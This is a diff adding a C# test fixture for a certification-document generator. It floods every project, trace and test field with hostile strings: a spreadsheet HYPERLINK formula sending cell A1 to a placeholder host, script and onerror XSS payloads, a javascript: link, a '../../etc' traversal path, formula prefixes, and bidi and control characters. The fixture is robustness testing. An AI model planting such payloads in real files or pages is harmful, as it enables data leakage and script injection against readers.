@@ -1,0 +1,47 @@
+using Certify.Facts;
+
+namespace Certify.Documents.Tests;
+
+/// <summary>Facts whose texts try to be something else than text.</summary>
+internal static class Nasty
+{
+    public const string Formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")";
+    public const string Script = "<script>alert(1)</script><img src=x onerror=alert(2)>";
+    public const string Escape = "_x0041_ and _x000D_";
+    public const string RightToLeft = "\u05E9\u05DC\u05D5\u05DD \u202Etxet desrever\u202C";
+    public static readonly string Controls = "bell\u0007 null\0 escape\u001B[31m lone \uD800 last \uFFFF end";
+    public static readonly string LongId = "M:" + new string('N', 9_990) + ".Type.Go";
+
+    public static DocumentInputs Create()
+    {
+        var inputs = Samples.Bad();
+        string[] texts = [Formula, Script, Escape, RightToLeft, Controls, LongId, "+1+1", "@SUM(A1)", "]]>", "&amp;", " "];
+        RequirementFact[] requirements = [.. texts.Select((text, i) => new RequirementFact(
+            text, i % 2 == 0 ? Tier.Hlr : Tier.Llr, text, text, text, text, [text, "gone"], i % 3 == 0, text,
+            VerificationMethod.Review, text, text, new SourcePlace(text, i)))];
+        TestFact[] tests = [.. texts.Select(text => new TestFact(text, text, [text], TestKind.Robustness, new SourcePlace(text, 1)))];
+        TestResult[] results = [.. texts.Select(text => new TestResult(
+            text, TestSide.Target, Verdict.Panic, 0, 0, ulong.MaxValue, [new LabelCount(text, 1)], text, text, text, text, text, text))];
+        return inputs with
+        {
+            Project = inputs.Project with
+            {
+                Name = Script, Organisation = Formula, PartNumber = Controls, Description = string.Join("\n\n", texts),
+                Components = [.. texts.Select(text => new ComponentText(text, text))],
+                Revisions = [.. texts.Select(text => new RevisionFact(text, text, text, text))],
+                ProblemReports = [.. texts.Select(text => new ProblemReportFact(text, text, text, text, text, new SourcePlace(text, 1)))],
+                Budgets = [.. texts.Select(text => new BudgetFact(text, long.MaxValue, text, long.MinValue, text))],
+            },
+            Trace = inputs.Trace with
+            {
+                Requirements = requirements, Tests = tests,
+                Code = [.. texts.Select(text => new CodeFact(text, [text], new SourcePlace(text, 1), text, false))],
+                Findings = [.. texts.Select(text => new AuditFinding(text, FindingSeverity.Error, text, text, new SourcePlace(text, 1)))],
+            },
+            Tests = inputs.Tests! with { LayoutHash = Script, Results = results },
+            Objectives = inputs.Objectives with { Objectives = [.. texts.Select((text, i) => new ObjectiveFact(text, i, text, text, true, ObjectiveStatus.WaitingForPerson, text, [text], text))] },
+            Links = [.. texts.Append("javascript:alert(1)").Append("../../etc").Append("//host/x").Select(text => new PackageLink(text, text, text, text))],
+            ManifestSha256 = Script,
+        };
+    }
+}
